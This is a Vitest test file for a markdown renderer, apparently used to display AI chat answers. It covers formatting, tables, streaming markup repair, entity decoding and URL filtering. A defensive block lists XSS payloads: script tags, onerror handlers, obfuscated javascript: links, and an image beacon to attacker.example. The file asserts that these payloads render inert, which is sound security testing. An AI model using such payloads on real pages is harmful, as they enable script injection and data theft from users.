import { render } from "preact-render-to-string";
import { describe, expect, it } from "vitest";
import { closeOpenMarkup, decodeEntities, safeUrl } from "../src/lib/markdown";
import { Markdown } from "../src/ui/markdown";

const html = (text: string, streaming = false) => render(<Markdown text={text} streaming={streaming} />).replace(/^<div class="[^"]*">|<\/div>$/g, "");

describe("Markdown", () => {
  it.each([
    ["plain *text* and **more**", "<p>plain <em>text</em> and <strong>more</strong></p>"],
    ["# One\n\nTwo", '<h3 class="level-1">One</h3><p>Two</p>'],
    ["`a < b`", "<p><code>a &lt; b</code></p>"],
    ["3. x\n4. y", '<ol start="3"><li>x</li><li>y</li></ol>'],
    ["> quoted", "<blockquote><p>quoted</p></blockquote>"],
    ["AT&amp;T &copy; &#9731; &lt;b&gt;", "<p>AT&amp;T © ☃ &lt;b></p>"],
  ])("draws %j", (text, expected) => {
    expect(html(text)).toBe(expected);
  });

  it("draws tables with their alignment", () => {
    const drawn = html("| a | b |\n|:-:|--:|\n| 1 | 2 |");
    expect(drawn).toContain('<th class="align-center">a</th>');
    expect(drawn).toContain('<td class="align-right">2</td>');
  });

  it("colours code it knows and leaves the rest alone", () => {
    expect(html("```rust\nfn main() {}\n```")).toContain('<span class="hljs-keyword">fn</span>');
    expect(html("```nosuch\n<b>\n```")).toContain("<code>&lt;b></code>");
  });
});

describe("what an answer must not do", () => {
  const attacks = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <svg/onload=alert(1)> text",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "![x](https://attacker.example/steal?q=1)",
    "![x](x\"onerror=\"alert(1))",
    "<a href=\"javascript:alert(1)\">x</a>",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "```html\n<script>alert(1)</script>\n```",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |",
    "# <style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
  ];
  it.each(attacks)("stays inert: %j", (attack) => {
    for (const streaming of [false, true]) {
      const drawn = html(attack, streaming);
      const tags = [...drawn.matchAll(/<([a-z0-9]+)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/gi)];
      for (const [, tag = "", attributes = ""] of tags) {
        expect(["script", "img", "iframe", "style", "object", "embed", "form", "base", "link", "meta"]).not.toContain(tag.toLowerCase());
        expect(attributes).not.toMatch(/\son\w+=/i);
        const href = /href="([^"]*)"/.exec(attributes)?.[1];
        if (href !== undefined) expect(href).toMatch(/^(https?|mailto):/);
      }
    }
  });

  it("keeps the links that are harmless", () => {
    expect(html("[a](https://example.com/x?y=1)")).toContain('href="https://example.com/x?y=1"');
    expect(html("[a](https://example.com)")).toContain('rel="noopener noreferrer nofollow"');
    expect(html("<https://example.com>")).toContain('href="https://example.com/"');
  });

  it("survives absurd nesting", () => {
    expect(html("> ".repeat(300) + "deep")).toContain("deep");
    expect(html("[".repeat(2000))).toContain("[");
  });
});

describe("safeUrl", () => {
  it.each(["javascript:alert(1)", " javascript:alert(1)", "\u0001javascript:alert(1)", "file:///etc/passwd", "/relative", "#anchor", "//host", ""])("refuses %j", (address) => {
    expect(safeUrl(address)).toBeUndefined();
  });
  it.each(["https://example.com/", "http://localhost:8080/", "mailto:a@example.com"])("takes %j", (address) => {
    expect(safeUrl(address)).toBe(address);
  });
});

describe("closeOpenMarkup", () => {
  it.each([
    ["a **bol", "a **bol**"],
    ["a **bold**", "a **bold**"],
    ["a **bold*", "a **bold**"],
    ["a *", "a "],
    ["a **", "a "],
    ["an *emph", "an *emph*"],
    ["2 * 3", "2 * 3"],
    ["`co", "`co`"],
    ["`code` and ~~gon", "`code` and ~~gon~~"],
    ["see [the bo", "see the bo"],
    ["see [the book](https://exa", "see the book"],
    ["see [the book](https://example.com)", "see [the book](https://example.com)"],
    ["- [ ", "- [ "],
    ["* item", "* item"],
    ["```\n**not closed", "```\n**not closed"],
    ["done **x**\n\nnext **y", "done **x**\n\nnext **y**"],
    ["", ""],
  ])("%j becomes %j", (text, expected) => {
    expect(closeOpenMarkup(text)).toBe(expected);
  });

  it("never fails and never changes finished lines", () => {
    const text = "# T\n\n- **a** `b` [c](https://d.e) ~~f~~ *g*\n\n```js\nlet x = `*`;\n```\n\nend **h** ![i](j) `k`";
    for (let end = 0; end <= text.length; end++) {
      const closed = closeOpenMarkup(text.slice(0, end));
      const finished = text.slice(0, text.lastIndexOf("\n", end - 1) + 1);
      expect(closed.startsWith(finished)).toBe(true);
    }
  });
});

describe("decodeEntities", () => {
  it.each([["&amp;lt;", "&lt;"], ["&#x1F600;", "😀"], ["&#0;&#xD800;", "\ufffd\ufffd"], ["&nosuch; & b", "&nosuch; & b"]])("%j is %j", (text, expected) => {
    expect(decodeEntities(text)).toBe(expected);
  });
});
